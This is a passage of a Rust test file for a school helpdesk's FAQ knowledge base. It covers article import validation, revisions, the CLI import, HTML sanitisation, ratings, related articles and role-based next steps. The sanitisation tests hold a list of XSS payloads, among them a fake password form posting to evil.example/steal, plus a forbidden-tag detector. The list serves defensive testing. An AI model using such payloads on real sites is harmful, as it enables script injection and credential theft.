//! The FAQ articles: importing files (broken ones rejected one by one, with file and line;
//! revisions; the real `staffel kb import`), sanitised rendering, the article page (views,
//! rating, related articles, next steps) and the shipped `kb/` folder.
mod common;

use std::collections::BTreeSet;
use std::path::Path;
use std::process::{Command, Stdio};

use common::{article_text, html_message, write_article, Backend, PgDatabase, TestApp, PASSWORD};
use rocket::http::Status;
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, QueryOrder};
use staffel::i18n::Lang;

const GOOD: &str = "gut/drucker-papierstau.md";
const GOOD_SLUG: &str = "drucker-papierstau";

fn good_text(body: &str) -> String {
    article_text(
        "title: \"Papierstau im Drucker beheben\"\naudience: [teacher]\nservice: printing\ntags: [drucker, papierstau]",
        body,
    )
}

/// Broken files: (path, bytes, line the message names or None, text the message contains).
fn broken_files() -> Vec<(&'static str, Vec<u8>, Option<usize>, &'static str)> {
    let valid = |title: &str| article_text(&format!("title: {title}\naudience: [pupil]"), "Text").into_bytes();
    vec![
        (
            "kaputt/offen.md",
            b"---\ntitle: Offen\naudience: [pupil]\n\nText ohne Ende der Kopfzeilen\n".to_vec(),
            Some(1),
            "not closed",
        ),
        (
            "kaputt/yaml-fehler.md",
            b"---\ntitle: YAML\naudience: [pupil\nservice: wifi\n---\nText\n".to_vec(),
            Some(4),
            "front matter",
        ),
        (
            "kaputt/zielgruppe.md",
            b"---\ntitle: Zielgruppe\nservice: wifi\naudience: [pupil, hacker]\n---\nText\n".to_vec(),
            Some(4),
            "unknown audience \"hacker\"",
        ),
        (
            "kaputt/schluessel.md",
            b"---\ntitle: Schluessel\naudience: [pupil]\ncolour: red\n---\nText\n".to_vec(),
            Some(4),
            "colour",
        ),
        (
            "kaputt/ohne-titel.md",
            b"---\naudience: [pupil]\nservice: wifi\n---\nText\n".to_vec(),
            None,
            "title is missing",
        ),
        (
            "kaputt/ohne-zielgruppe.md",
            b"---\ntitle: Niemand\nservice: wifi\n---\nText\n".to_vec(),
            Some(2),
            "audience is missing",
        ),
        (
            "kaputt/dienst.md",
            b"---\ntitle: Dienst\naudience: [pupil]\ntags: [a]\nservice: teleportation\n---\nText\n".to_vec(),
            Some(5),
            "unknown service \"teleportation\"",
        ),
        (
            "kaputt/schule.md",
            b"---\ntitle: Schule\naudience: [pupil]\nschool: atlantis\n---\nText\n".to_vec(),
            Some(4),
            "unknown school \"atlantis\"",
        ),
        (
            "kaputt/status.md",
            b"---\ntitle: Status\naudience: [pupil]\nstatus: fertig\n---\nText\n".to_vec(),
            Some(4),
            "status must be draft or published",
        ),
        ("kaputt/leer.md", Vec::new(), Some(1), "must start with a front matter line"),
        ("a/doppelt.md", valid("Doppelt A"), None, "slug \"doppelt\" is also used by"),
        ("b/doppelt.md", valid("Doppelt B"), None, "slug \"doppelt\" is also used by"),
        ("kaputt/Bad Name.md", valid("Schlechter Name"), None, "is not a valid slug"),
        (
            "kaputt/latin1.md",
            [b"---\ntitle: Latin-1\naudience: [pupil]\n---\nSch".as_slice(), &[0xF6], b"n\n"].concat(),
            Some(5),
            "not UTF-8",
        ),
    ]
}

fn write_bytes(dir: &Path, relative: &str, bytes: &[u8]) {
    let path = dir.join(relative);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

/// A folder with the good article and every broken one.
fn mixed_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    write_article(dir.path(), GOOD, &good_text("Klappe öffnen, Papier vorsichtig herausziehen."));
    for (path, bytes, _, _) in broken_files() {
        write_bytes(dir.path(), path, &bytes);
    }
    dir
}

/// Every rejection names its file, the line where one applies, and the reason.
fn assert_each_broken_file_rejected(rejected: &[(String, String)], dir: &Path) {
    let broken = broken_files();
    assert_eq!(rejected.len(), broken.len(), "{rejected:#?}");
    for (path, _, line, text) in broken {
        let origin = dir.join(path).display().to_string();
        let reason = rejected
            .iter()
            .find(|(file, _)| *file == origin)
            .map(|(_, reason)| reason.as_str())
            .unwrap_or_else(|| panic!("{path} is not among the rejected: {rejected:#?}"));
        assert!(reason.contains(text), "{path}: {reason:?} should contain {text:?}");
        if let Some(line) = line {
            assert!(reason.starts_with(&format!("line {line}: ")), "{path}: {reason:?} should name line {line}");
        }
    }
}

async fn kb_rows(app: &TestApp) -> (Vec<String>, usize) {
    let mut articles: Vec<String> =
        entities::kb_article::Entity::find().all(app.db()).await.unwrap().iter().map(|a| format!("{a:?}")).collect();
    articles.sort();
    let revisions = entities::kb_revision::Entity::find().all(app.db()).await.unwrap().len();
    (articles, revisions)
}

async fn article(app: &TestApp, slug: &str) -> entities::kb_article::Model {
    entities::kb_article::Entity::find()
        .filter(entities::kb_article::Column::Slug.eq(slug))
        .one(app.db())
        .await
        .unwrap()
        .unwrap_or_else(|| panic!("article {slug} exists"))
}

async fn revisions(app: &TestApp, article_id: i32) -> Vec<entities::kb_revision::Model> {
    entities::kb_revision::Entity::find()
        .filter(entities::kb_revision::Column::ArticleId.eq(article_id))
        .order_by_asc(entities::kb_revision::Column::Version)
        .all(app.db())
        .await
        .unwrap()
}

async fn broken_files_are_rejected_and_the_good_one_imported(backend: Backend) {
    let app = TestApp::new(&backend).await;
    let dir = mixed_dir();
    let (articles_before, revisions_before) = kb_rows(&app).await;

    let report = app.import_articles(dir.path()).await;
    assert_eq!(report.added, vec![GOOD_SLUG.to_string()]);
    assert!(report.changed.is_empty() && report.kept_local.is_empty());
    assert_eq!(report.unchanged, 0);
    assert_each_broken_file_rejected(&report.rejected, dir.path());

    // Nothing else changed: the shipped articles are as before, one article and one
    // revision more.
    let (articles_after, revisions_after) = kb_rows(&app).await;
    assert_eq!(revisions_after, revisions_before + 1);
    assert_eq!(articles_after.len(), articles_before.len() + 1);
    let before: BTreeSet<&String> = articles_before.iter().collect();
    let new: Vec<&String> = articles_after.iter().filter(|a| !before.contains(a)).collect();
    assert_eq!(new.len(), 1);
    assert!(new[0].contains(&format!("slug: \"{GOOD_SLUG}\"")), "{new:?}");
    for slug in ["doppelt", "offen", "yaml-fehler", "zielgruppe", "dienst", "schule", "latin1"] {
        let found = entities::kb_article::Entity::find()
            .filter(entities::kb_article::Column::Slug.eq(slug))
            .one(app.db())
            .await
            .unwrap();
        assert!(found.is_none(), "{slug} must not be imported");
    }
    let good = article(&app, GOOD_SLUG).await;
    assert_eq!(good.title, "Papierstau im Drucker beheben");
    assert_eq!(good.audience, "teacher");
    assert_eq!(good.tags, "drucker,papierstau");
    assert_eq!(good.status, "published");
    assert_eq!(good.version, 1);
    assert!(good.body.starts_with("Klappe öffnen"), "{:?}", good.body);

    // The same files again: the good one unchanged, the broken ones rejected again.
    let report = app.import_articles(dir.path()).await;
    assert!(report.added.is_empty() && report.changed.is_empty(), "{report:?}");
    assert_eq!(report.unchanged, 1);
    assert_each_broken_file_rejected(&report.rejected, dir.path());
    assert_eq!(kb_rows(&app).await, kb_rows(&app).await);
    assert_eq!(kb_rows(&app).await.1, revisions_before + 1);

    // A changed file: a new version and a new revision, the old one kept.
    write_article(dir.path(), GOOD, &good_text("Zuerst das Papierfach herausziehen, dann die Klappe öffnen."));
    let report = app.import_articles(dir.path()).await;
    assert_eq!(report.changed, vec![GOOD_SLUG.to_string()]);
    assert!(report.added.is_empty());
    let good = article(&app, GOOD_SLUG).await;
    assert_eq!(good.version, 2);
    assert!(good.body.starts_with("Zuerst das Papierfach"));
    let history = revisions(&app, good.id).await;
    assert_eq!(history.iter().map(|r| r.version).collect::<Vec<_>>(), vec![1, 2]);
    assert!(history[0].body.starts_with("Klappe öffnen"));
    assert!(history[1].body.starts_with("Zuerst das Papierfach"));
    assert!(history.iter().all(|r| r.author_label == "import" && r.author_id.is_none()));
    let meta: serde_json::Value = serde_json::from_str(&history[1].meta).expect("meta is JSON");
    assert_eq!(meta["service"], "printing");
    assert_eq!(meta["audience"], serde_json::json!(["teacher"]));

    // A fixed file is imported on the next run.
    write_article(dir.path(), "kaputt/zielgruppe.md", &article_text("title: Zielgruppe\naudience: [pupil]", "Text"));
    let report = app.import_articles(dir.path()).await;
    assert_eq!(report.added, vec!["zielgruppe".to_string()]);
    assert_eq!(report.rejected.len(), broken_files().len() - 1);
}

#[rocket::async_test]
async fn import_rejects_broken_files_one_by_one() {
    on_each_backend!(broken_files_are_rejected_and_the_good_one_imported);
}

/// `staffel ARGS` on its own data dir (and database), from a directory without a
/// Rocket.toml.
fn staffel(args: &[&str], cwd: &Path, data_dir: &Path, database_url: Option<&str>) -> std::process::Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_staffel"));
    for (key, _) in std::env::vars() {
        if key.starts_with("STAFFEL_") || key.starts_with("ROCKET_") || key.starts_with("LC_") {
            command.env_remove(key);
        }
    }
    command
        .args(args)
        .current_dir(cwd)
        .env("STAFFEL_DATA_DIR", data_dir)
        .env("LANG", "C.UTF-8")
        .env("RUST_LOG", "warn")
        .stdin(Stdio::null());
    if let Some(url) = database_url {
        command.env("STAFFEL_DATABASE_URL", url);
    }
    command.output().expect("run staffel")
}

async fn the_cli_import_reports_and_fails_on_rejections(backend: Backend) {
    let pg = match &backend {
        Backend::Postgres(admin) => Some(PgDatabase::create(admin).await),
        Backend::Sqlite => None,
    };
    let url = pg.as_ref().map(|p| p.url.clone());
    let work = tempfile::tempdir().unwrap();
    let data = work.path().join("data");
    let dir = mixed_dir();
    let dir_arg = dir.path().display().to_string();

    let run = staffel(&["kb", "import", &dir_arg], work.path(), &data, url.as_deref());
    let stdout = String::from_utf8_lossy(&run.stdout);
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(!run.status.success(), "rejections make the command fail\n{stdout}\n{stderr}");
    assert!(stdout.contains("1 added, 0 changed, 0 unchanged"), "{stdout}");
    assert!(stdout.contains(&format!("{} rejected", broken_files().len())), "{stdout}");
    assert!(stdout.lines().any(|l| l.trim() == format!("added    {GOOD_SLUG}")), "{stdout}");
    for (path, _, line, text) in broken_files() {
        let origin = dir.path().join(path).display().to_string();
        let listed = stdout
            .lines()
            .find(|l| l.trim_start().starts_with(&format!("REJECTED {origin}: ")))
            .unwrap_or_else(|| panic!("{path} is not listed as rejected:\n{stdout}"));
        assert!(listed.contains(text), "{listed}");
        if let Some(line) = line {
            assert!(listed.contains(&format!(": line {line}: ")), "{listed}");
        }
    }
    assert!(stderr.contains(&format!("{} file(s) rejected", broken_files().len())), "{stderr}");

    // Again: nothing new, still failing.
    let run = staffel(&["kb", "import", &dir_arg], work.path(), &data, url.as_deref());
    let stdout = String::from_utf8_lossy(&run.stdout);
    assert!(!run.status.success());
    assert!(stdout.contains("0 added, 0 changed, 1 unchanged"), "{stdout}");

    // Only good files: success, the change reported.
    let good = tempfile::tempdir().unwrap();
    write_article(good.path(), GOOD, &good_text("Neu: zuerst das Papierfach."));
    write_article(good.path(), "zwei/toner-wechseln.md", &good_text("Toner wechseln."));
    let run = staffel(&["kb", "import", &good.path().display().to_string()], work.path(), &data, url.as_deref());
    let stdout = String::from_utf8_lossy(&run.stdout);
    assert!(run.status.success(), "{stdout}\n{}", String::from_utf8_lossy(&run.stderr));
    assert!(stdout.contains("1 added, 1 changed, 0 unchanged"), "{stdout}");
    assert!(stdout.lines().any(|l| l.trim() == format!("changed  {GOOD_SLUG}")), "{stdout}");
    assert!(stdout.lines().any(|l| l.trim() == "added    toner-wechseln"), "{stdout}");
    assert!(!stdout.contains("REJECTED"), "{stdout}");
}

#[rocket::async_test]
async fn the_cli_import_reports_every_file() {
    on_each_backend!(the_cli_import_reports_and_fails_on_rejections);
}

// ---------------------------------------------------------------------------------------
// Sanitising
// ---------------------------------------------------------------------------------------

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">klick</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">klick</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">klick</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<style>body { display: none }</style>",
    "<form action=\"https://evil.example/steal\"><input name=pw><button>Senden</button></form>",
    "<a href=\"javas&#99;ript:alert(1)\">klick</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">klick</a>",
    "<<script>script>alert(1)<</script>/script>",
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1)  )",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<input type=\"text\" onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<body onload=alert(1)>",
    "<p title=\"x\" onclick=\"alert(1)\">x</p>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
];

/// The raw tags of an HTML text (`<name ...>` and `</name>`), lowercased.
fn tags(html: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let after = &rest[start + 1..];
        if after.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/' || c == '!') {
            let end = after.find('>').map(|e| e + 1).unwrap_or(after.len());
            out.push(format!("<{}", &after[..end]).to_lowercase());
            rest = &after[end..];
        } else {
            rest = after;
        }
    }
    out
}

/// The tag's name: `<a href=...>` → "a".
fn tag_name(tag: &str) -> String {
    tag.trim_start_matches(['<', '/']).chars().take_while(|c| c.is_ascii_alphanumeric()).collect()
}

/// No active content in HTML meant to come from article authors: no script, style,
/// frames, plugins, SVG/MathML, forms; no event handler attribute; no javascript: or data:
/// URL (also entity-encoded); nothing pointing at evil.example.
fn assert_safe(html: &str, context: &str) {
    for tag in tags(html) {
        let name = tag_name(&tag);
        assert!(
            ![
                "script", "style", "iframe", "object", "embed", "svg", "math", "form", "base", "meta", "link", "body",
                "frame", "frameset"
            ]
            .contains(&name.as_str()),
            "{context}: forbidden tag {tag}\n{html}"
        );
        let bytes = tag.as_bytes();
        for (i, _) in tag.match_indices("on") {
            let before = if i == 0 { b' ' } else { bytes[i - 1] };
            let word: String = tag[i..].chars().take_while(|c| c.is_ascii_alphanumeric()).collect();
            let after = tag[i + word.len()..].trim_start();
            assert!(
                !(matches!(before, b' ' | b'\t' | b'\n' | b'/' | b'"' | b'\'')
                    && word.len() > 2
                    && after.starts_with('=')),
                "{context}: event handler attribute in {tag}\n{html}"
            );
        }
        for bad in ["javascript:", "javas", "data:", "&#", "evil.example", "style="] {
            assert!(!tag.contains(bad), "{context}: {bad} in {tag}\n{html}");
        }
        if name == "input" {
            assert!(tag.contains("type=\"checkbox\""), "{context}: only task-list checkboxes: {tag}");
        }
    }
}

#[test]
fn rendering_removes_every_active_payload() {
    for payload in PAYLOADS {
        for markdown in [
            payload.to_string(),
            format!("Text davor\n\n{payload}\n\nText danach"),
            format!("Ein Satz mit {payload} mittendrin."),
            format!("- Punkt {payload}\n- [ ] Aufgabe {payload}"),
            format!("| a | b |\n|---|---|\n| {payload} | x |"),
            format!("## Kopf {payload}\n\ntext"),
        ] {
            let rendered = staffel::kb::render::render(&markdown);
            assert_safe(&rendered.html, &format!("render({markdown:?})"));
            for entry in &rendered.toc {
                assert!(entry.id.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'), "{entry:?}");
            }
        }
    }
    // What is harmless survives.
    let ok = staffel::kb::render::render("[Hilfe](https://example.org/hilfe) und <mailto:it@schule.de>\n\n**fett**");
    assert!(ok.html.contains("href=\"https://example.org/hilfe\""), "{}", ok.html);
    assert!(ok.html.contains("rel=\"noopener noreferrer nofollow\""), "{}", ok.html);
    assert!(ok.html.contains("href=\"mailto:it@schule.de\""), "{}", ok.html);
    assert!(ok.html.contains("<strong>fett</strong>"));
    // Text that looks like markup stays text.
    let text = staffel::kb::render::render("Tippen Sie `<script>` nicht ein: 3 < 4 & 5 > 2");
    assert!(text.html.contains("<code>&lt;script&gt;</code>"), "{}", text.html);
    assert!(text.html.contains("3 &lt; 4 &amp; 5 &gt; 2"), "{}", text.html);
}

#[test]
fn headings_tables_and_task_lists_render() {
    let r = staffel::kb::render::render(
        "# Titel\n\n## Schritt 1: Drucker prüfen\n\n| Format | Wofür |\n|---|---|\n| PDF | Texte |\n\n- [x] erledigt\n- [ ] offen\n\n## Straße & Größe\n\n### Schritt 1: Drucker prüfen\n",
    );
    assert!(r.html.contains("<h2 id=\"kb-schritt-1-drucker-pruefen\">"), "{}", r.html);
    assert!(r.html.contains("<h3 id=\"kb-schritt-1-drucker-pruefen-1\">"), "{}", r.html);
    assert!(r.html.contains("<h2 id=\"kb-strasse-groesse\">"), "{}", r.html);
    assert!(r.html.contains("<table>") && r.html.contains("<th>Format</th>") && r.html.contains("<td>PDF</td>"));
    assert_eq!(r.html.matches("type=\"checkbox\"").count(), 2);
    assert_eq!(r.html.matches("checked").count(), 1);
    let toc: Vec<(u8, &str, &str)> = r.toc.iter().map(|e| (e.level, e.id.as_str(), e.text.as_str())).collect();
    assert_eq!(
        toc,
        vec![
            (1, "kb-titel", "Titel"),
            (2, "kb-schritt-1-drucker-pruefen", "Schritt 1: Drucker prüfen"),
            (2, "kb-strasse-groesse", "Straße & Größe"),
            (3, "kb-schritt-1-drucker-pruefen-1", "Schritt 1: Drucker prüfen"),
        ]
    );
}

const XSS_TITLE: &str = "Giftzwerg <script>alert('t')</script> & <img src=x onerror=alert(2)>";

fn xss_article() -> String {
    let front = format!(
        "title: \"{}\"\naudience: [pupil]\nservice: other\ntags: [\"<b>fett</b>\", \"<img src=x onerror=alert(3)>\", \"ok\"]",
        XSS_TITLE.replace('"', "\\\"")
    );
    let mut body = String::from(
        "## Übersicht\n\nGiftzwerg-Artikel mit Schadcode.\n\n## Zweiter Teil <img src=x onerror=alert(4)>\n\n",
    );
    for payload in PAYLOADS {
        body.push_str(&format!("Giftzwerg {payload}\n\n"));
    }
    body.push_str("## Dritter Teil\n\nEnde.\n");
    article_text(&front, &body)
}

/// The rendered Markdown on an article page (without the layout and the rating form).
fn article_part(page: &str) -> &str {
    let start = page.find("<div class=\"markdown\">").expect("the article's text");
    let end = page[start..].find("<section id=\"rate\"").map(|e| start + e).expect("the rating form");
    &page[start..end]
}

async fn articles_are_sanitised_on_the_page_and_in_the_api(backend: Backend) {
    let app = TestApp::new(&backend).await;
    let dir = tempfile::tempdir().unwrap();
    write_article(dir.path(), "giftzwerg.md", &xss_article());
    let report = app.import_articles(dir.path()).await;
    assert_eq!(report.added, vec!["giftzwerg".to_string()], "{:?}", report.rejected);
    app.sync_search().await;

    let mut reader = app.browser();
    let page = reader.get("/kb/giftzwerg").await;
    assert_eq!(page.status, Status::Ok);
    let baseline = reader.get("/kb/wlan-verbinden-schueler").await;
    // The whole page has no more tags of the dangerous kinds than a harmless article's page.
    let count = |html: &str, what: &str| tags(html).iter().filter(|t| t.starts_with(what)).count();
    for what in ["<script", "<iframe", "<svg", "<style", "<form", "<object", "<embed", "<base", "<meta", "<link"] {
        assert_eq!(count(&page.body, what), count(&baseline.body, what), "{what} tags on the page");
    }
    assert_safe(article_part(&page.body), "/kb/giftzwerg");
    // Title and tags are text.
    assert!(!page.body.contains("<script>alert('t')"));
    assert!(!page.body.contains("<img src=x"));
    assert!(!page.body.contains("<b>fett"));
    assert!(page.body.contains(
        "Giftzwerg &lt;script&gt;alert(&#x27;t&#x27;)&lt;&#x2F;script&gt; &amp; &lt;img src=x onerror=alert(2)&gt;"
    ));
    assert!(page.body.contains("<li>&lt;b&gt;fett&lt;&#x2F;b&gt;</li>"), "tags shown escaped");
    assert!(page.body.contains("<li>&lt;img src=x onerror=alert(3)&gt;</li>"));
    // The table of contents and the heading carry no markup either.
    assert!(page.body.contains("href=\"#kb-zweiter-teil\""), "toc link");
    assert!(page.body.contains("<h2 id=\"kb-zweiter-teil\">"), "heading anchor");

    // The API: the rendered HTML is as clean; title and tags are data (JSON strings).
    let reply = app.api_get(None, "/api/v1/kb/articles/giftzwerg").await;
    assert_eq!(reply.status, Status::Ok);
    let json = reply.json();
    assert_safe(json["html"].as_str().unwrap(), "API html");
    assert_eq!(json["title"], XSS_TITLE);
    for entry in json["toc"].as_array().unwrap() {
        assert!(!entry["text"].as_str().unwrap().contains('<'), "{entry}");
    }

    // In search results and suggestions the title is escaped, the snippet is clean.
    let results = reader.get("/faq?q=Giftzwerg").await;
    assert!(results.body.contains("href=\"/kb/giftzwerg\""), "found");
    assert!(!results.body.contains("<script>alert("));
    assert!(!results.body.contains("<img src=x"));
    assert!(results.body.contains("Giftzwerg &lt;script&gt;"));
    let reply = app.api_get(None, "/api/v1/kb/search?q=Giftzwerg").await;
    let snippet = reply.json()["hits"][0]["snippet"].as_str().unwrap().to_string();
    assert!(snippet.contains("<mark>"), "{snippet}");
    assert_safe(&snippet, "snippet");
}

#[rocket::async_test]
async fn articles_are_sanitised() {
    on_each_backend!(articles_are_sanitised_on_the_page_and_in_the_api);
}

// ---------------------------------------------------------------------------------------
// The article page
// ---------------------------------------------------------------------------------------

/// The links in the "related articles" box.
fn related(page: &str) -> Vec<String> {
    let Some(start) = page.find("id=\"related-title\"") else {
        return Vec::new();
    };
    let end = page[start..].find("</section>").map(|e| start + e).unwrap();
    page[start..end].split("href=\"/kb/").skip(1).map(|s| s.split('"').next().unwrap().to_string()).collect()
}

async fn shipped_articles_render_fully(backend: Backend) {
    let app = TestApp::new(&backend).await;
    app.school("gym").await;
    app.user("t@gym.de", "teacher", "gym").await;
    let mut teacher = app.login("t@gym.de", PASSWORD).await;
    // A task list, heading anchors and the table of contents.
    let page = teacher.get("/kb/beamer-zeigt-kein-bild").await;
    assert_eq!(page.status, Status::Ok);
    let body = &page.body;
    assert!(body.contains("<h1>Beamer zeigt kein Bild – Checkliste für Unterricht und Schuladministration</h1>"));
    assert!(body.contains("<h2 id=\"kb-schnelle-pruefung-im-unterricht\">Schnelle Prüfung im Unterricht</h2>"));
    assert!(body.contains("<a href=\"#kb-schnelle-pruefung-im-unterricht\">Schnelle Prüfung im Unterricht</a>"));
    assert!(body.contains("<a href=\"#kb-checkliste-fuer-schuladministrationen-vor-dem-ticket\">"));
    assert!(body.contains("id=\"toc-title\""));
    assert_eq!(body.matches("type=\"checkbox\"").count(), 6, "six open checklist items");
    assert!(body.contains("<ol>") && body.contains("<strong>Ist der Projektor wirklich an?</strong>"));
    assert_safe(article_part(body), "beamer article");
    // A table.
    let page = teacher.get("/kb/hausaufgabe-hochladen-lernplattform").await;
    assert_eq!(page.status, Status::Ok);
    assert!(page.body.contains("<table>"), "table");
    assert!(page.body.contains("<td>PDF</td>"), "table cell");
    // Every shipped article renders for the desk, safe and with a table of contents.
    app.user("l@desk.de", "desk_lead", "").await;
    let token = app.token("l@desk.de").await;
    for file in staffel::kb::import::shipped(None).unwrap() {
        let reply = app.api_get(Some(&token), &format!("/api/v1/kb/articles/{}", file.slug)).await;
        assert_eq!(reply.status, Status::Ok, "{}", file.slug);
        let json = reply.json();
        assert_safe(json["html"].as_str().unwrap(), &file.slug);
        assert!(json["toc"].as_array().unwrap().len() >= 3, "{} has sections", file.slug);
    }
}

#[rocket::async_test]
async fn shipped_articles_render_with_toc_tables_and_task_lists() {
    on_each_backend!(shipped_articles_render_fully);
}

async fn views_ratings_and_related(backend: Backend) {
    let app = TestApp::new(&backend).await;
    let slug = "wlan-verbinden-schueler";
    let before = article(&app, slug).await;
    assert_eq!((before.views, before.helpful, before.not_helpful), (0, 0, 0));

    let mut reader = app.browser();
    let page = reader.get(&format!("/kb/{slug}")).await;
    assert_eq!(page.status, Status::Ok);
    assert!(page.body.contains(&format!("action=\"/kb/{slug}/rate\"")), "rating form");
    reader.get(&format!("/kb/{slug}")).await;
    app.browser().get(&format!("/kb/{slug}")).await;
    assert_eq!(article(&app, slug).await.views, 3);
    // The API read is not a page view; a missing article counts nothing.
    app.api_get(None, &format!("/api/v1/kb/articles/{slug}")).await;
    assert_eq!(reader.get("/kb/gibt-es-nicht").await.status, Status::NotFound);
    assert_eq!(article(&app, slug).await.views, 3);

    // Rating, with the page's CSRF token.
    let reply = reader.post_form(&format!("/kb/{slug}/rate"), &[("helpful", "yes")]).await;
    assert_eq!(reply.status, Status::SeeOther, "{}", reply.body);
    assert_eq!(reply.location.as_deref(), Some(format!("/kb/{slug}#rate").as_str()));
    reader.post_form(&format!("/kb/{slug}/rate"), &[("helpful", "yes")]).await;
    reader.post_form(&format!("/kb/{slug}/rate"), &[("helpful", "no")]).await;
    let rated = article(&app, slug).await;
    assert_eq!((rated.helpful, rated.not_helpful), (2, 1));
    // The thanks is shown after the redirect.
    let page = reader.get(&format!("/kb/{slug}")).await;
    assert!(page.body.contains(&html_message(Lang::De, "kb.thanks_not_helpful", "")), "flash shown");
    // Without a valid token, or with a value other than yes/no: nothing counted.
    let forged = common::encode(&[("_csrf", "0000"), ("helpful", "yes")]);
    let reply = reader.post_raw(&format!("/kb/{slug}/rate"), &forged, rocket::http::ContentType::Form).await;
    assert_eq!(reply.status, Status::Forbidden);
    let reply = reader.post_form(&format!("/kb/{slug}/rate"), &[("helpful", "vielleicht")]).await;
    assert_eq!(reply.status, Status::UnprocessableEntity);
    let reply = reader.post_form("/kb/wlan-lehrkraefte-geraete-verbinden/rate", &[("helpful", "yes")]).await;
    assert_eq!(reply.status, Status::NotFound, "a pupil cannot rate a teachers' article");
    let rated = article(&app, slug).await;
    assert_eq!((rated.helpful, rated.not_helpful), (2, 1));
    assert_eq!(article(&app, "wlan-lehrkraefte-geraete-verbinden").await.helpful, 0);

    // Related articles: other articles on the subject, in the reader's scope, not itself.
    let page = reader.get(&format!("/kb/{slug}")).await;
    let links = related(&page.body);
    assert!(!links.is_empty(), "related articles listed");
    assert!(!links.contains(&slug.to_string()));
    let pupil_articles: BTreeSet<String> = staffel::kb::import::shipped(None)
        .unwrap()
        .into_iter()
        .filter(|f| staffel::kb::frontmatter::parse(&f.slug, &f.text).unwrap().audience.contains(&"pupil".to_string()))
        .map(|f| f.slug)
        .collect();
    assert!(links.iter().all(|l| pupil_articles.contains(l)), "only pupils' articles for a pupil: {links:?}");
    app.school("gym").await;
    app.user("t@gym.de", "teacher", "gym").await;
    let mut teacher = app.login("t@gym.de", PASSWORD).await;
    let page = teacher.get("/kb/wlan-lehrkraefte-geraete-verbinden").await;
    let links = related(&page.body);
    assert!(links.contains(&slug.to_string()), "the pupils' WLAN article is related for a teacher: {links:?}");
    assert!(!links.contains(&"wlan-stoerung-schuluebergreifend-eingrenzen".to_string()), "not the desk's: {links:?}");
}

#[rocket::async_test]
async fn the_article_page_counts_views_and_ratings_and_links_related_articles() {
    on_each_backend!(views_ratings_and_related);
}

async fn next_step_for_every_role(backend: Backend) {
    let app = TestApp::new(&backend).await;
    app.school("gym").await;
    let people = [
        (None, "pupil", None),
        (Some("p@gym.de"), "pupil", None),
        (Some("t@gym.de"), "teacher", Some("href=\"/reports\"")),
        (Some("a@gym.de"), "school_admin", Some("href=\"/helpdesk\"")),
        (Some("ag@desk.de"), "agent", None),
        (Some("l@desk.de"), "desk_lead", None),
        (Some("o@op.de"), "operator", None),
    ];
    for (email, role, _) in &people {
        if let Some(email) = email {
            let school = if matches!(*role, "pupil" | "teacher" | "school_admin") { "gym" } else { "" };
            app.user(email, role, school).await;
        }
    }
    for (email, role, link) in people {
        let mut browser = match email {
            Some(email) => app.login(email, PASSWORD).await,
            None => app.browser(),
        };
        let page = browser.get("/faq?q=xyzzy").await;
        assert_eq!(page.status, Status::Ok);
        assert!(page.body.contains(&html_message(Lang::De, "faq.no_results", "")), "{role}: no results");
        let own = html_message(Lang::De, &format!("next_step.{role}"), "");
        assert!(page.body.contains(&own), "{role}: {own}");
        for other in ["pupil", "teacher", "school_admin", "operator"] {
            let text = html_message(Lang::De, &format!("next_step.{other}"), "");
            if text != own {
                assert!(!page.body.contains(&text), "{role} is not told {other}'s next step");
            }
        }
        if let Some(link) = link {
            assert!(page.body.contains(link), "{role}: {link}");
        }
        if role == "pupil" {
            assert!(
                !page.body.contains("href=\"/helpdesk\"")
                    && !page.body.contains("class=\"button primary\" href=\"/reports\"")
            );
        }
    }
}

#[rocket::async_test]
async fn a_search_without_results_shows_each_role_its_next_step() {
    on_each_backend!(next_step_for_every_role);
}

// ---------------------------------------------------------------------------------------
// The shipped articles
// ---------------------------------------------------------------------------------------

async fn the_shipped_articles_import_cleanly(backend: Backend) {
    let app = TestApp::new(&backend).await;
    // The files in kb/ and those built into the binary are the same.
    let kb = Path::new(env!("CARGO_MANIFEST_DIR")).join("kb");
    let on_disk: BTreeSet<String> = staffel::kb::import::read_dir(&kb).unwrap().into_iter().map(|f| f.slug).collect();
    let built_in: BTreeSet<String> = staffel::kb::import::shipped(None).unwrap().into_iter().map(|f| f.slug).collect();
    assert_eq!(on_disk, built_in);
    assert!(on_disk.len() >= 25, "{} articles", on_disk.len());
    // The app imported them all on start; importing them again rejects none.
    let report = app.import_articles(&kb).await;
    assert!(report.rejected.is_empty(), "{:#?}", report.rejected);
    assert!(report.added.is_empty() && report.changed.is_empty(), "imported on start: {report:?}");
    assert_eq!(report.unchanged, on_disk.len());
    let articles = entities::kb_article::Entity::find().all(app.db()).await.unwrap();
    assert_eq!(articles.iter().map(|a| a.slug.clone()).collect::<BTreeSet<_>>(), on_disk);
    assert!(articles.iter().all(|a| a.origin == "shipped" && a.status == "published" && a.school_id.is_none()));
    // Every service except "other" has articles; every audience is served.
    let services = entities::service::Entity::find().all(app.db()).await.unwrap();
